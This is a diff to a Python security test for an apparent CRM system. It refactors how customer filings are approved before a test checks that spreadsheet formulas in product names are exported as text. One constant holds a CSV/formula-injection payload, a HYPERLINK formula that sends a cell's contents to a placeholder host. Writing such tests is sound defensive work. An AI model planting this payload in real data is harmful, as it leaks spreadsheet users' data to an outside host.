@@ -11,12 +11,14 @@ import random
 from openpyxl import load_workbook
 
 from tests.security.conftest import World
+from tests.support.approvals import StepApprovers
 from tests.support.client import Client, unique
 
 FORMULA_NAME = '=HYPERLINK("http://x/?d="&C2,"详情")'
 
 
 def _protected_customer(world: World, sales: Client) -> dict:
+    approvers = StepApprovers(world)  # before the filing: later accounts decide none of it
     body = {
         "name": f"导出测试{unique()}有限公司",
         "contact_name": "王先生",
@@ -26,13 +28,10 @@ def _protected_customer(world: World, sales: Client) -> dict:
     response = sales.post("/api/v1/customers", body)
     assert response.status_code == 201, response.text
     customer = response.json()
-    for _ in range(5):  # one approver per step, whatever the filing flow is
-        if customer["status"] == "protected":
-            return customer
-        approver = world.login(world.user(None, ["channel_manager"]))
-        approver.post(f"/api/v1/filings/{customer['filing']['id']}/approve", {"comment": "同意"})
-        customer = approver.get(f"/api/v1/customers/{customer['id']}").json()
-    raise AssertionError(f"the filing was not approved: {customer}")
+    approvers.approve_all(f"/api/v1/filings/{customer['filing']['id']}")
+    customer = sales.get(f"/api/v1/customers/{customer['id']}").json()
+    assert customer["status"] == "protected", customer
+    return customer
 
 
 def test_a_product_named_as_a_formula_is_text_in_the_sales_report_files(
